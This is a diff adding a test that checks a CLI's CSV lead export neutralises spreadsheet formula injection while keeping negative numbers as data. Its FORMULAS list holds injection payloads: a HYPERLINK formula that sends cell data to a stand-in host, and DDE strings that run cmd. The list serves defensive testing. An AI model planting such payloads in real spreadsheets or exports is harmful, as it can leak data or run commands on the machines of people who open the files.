@@ -81,6 +81,31 @@ def test_preview_csv_is_excel_friendly(filled, tmp_path) -> None:
     assert out.read_bytes().startswith(b"\xef\xbb\xbfemail,name,company")
 
 
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A2,"x")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
+            "-2+3+cmd|' /C calc'!A0", "\tTAB", "\rCR"]
+
+
+def test_preview_csv_neutralises_formulas_but_keeps_numbers(filled) -> None:
+    for n, formula in enumerate(FORMULAS):
+        email = f"evil{n}@example.com"
+        filled.lead(email, last_name=formula, company=formula)
+        filled.score(email, 90 + n, MONDAY, [(formula, 20)])
+    filled.lead("numbers@example.com", last_name="Numbers", company="-5")
+    filled.score("numbers@example.com", 85, MONDAY)
+    raw = invoke(filled, "handoff", "preview", "--no-pull", "--excel", "--as-of", "2025-04-07T10:00").stdout_bytes
+    rows = {r["email"]: r for r in csv.DictReader(io.StringIO(raw.decode("utf-8-sig"), newline=""))}
+    for n, formula in enumerate(FORMULAS):
+        row = rows[f"evil{n}@example.com"]
+        assert row["company"] == "'" + formula  # shown as text by Excel, the quote itself hidden
+        assert row["reasons"].startswith("'" + formula)
+        assert row["score"] == str(90 + n)
+        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row.values())
+    assert rows["numbers@example.com"]["company"] == "-5"  # a negative number is data, not a formula
+    # JSON is for programs: the exact values.
+    data = json.loads(invoke(filled, "handoff", "preview", "--no-pull", "--format", "json", "--as-of", "2025-04-07T10:00").stdout)
+    assert {d["company"] for d in data} >= set(FORMULAS)
+
+
 def test_preview_table(filled, monkeypatch) -> None:
     monkeypatch.setenv("COLUMNS", "160")  # the table fits the terminal; narrower ones drop columns
     text = invoke(filled, "handoff", "preview", "--no-pull", "--as-of", "2025-04-07T10:00").stdout
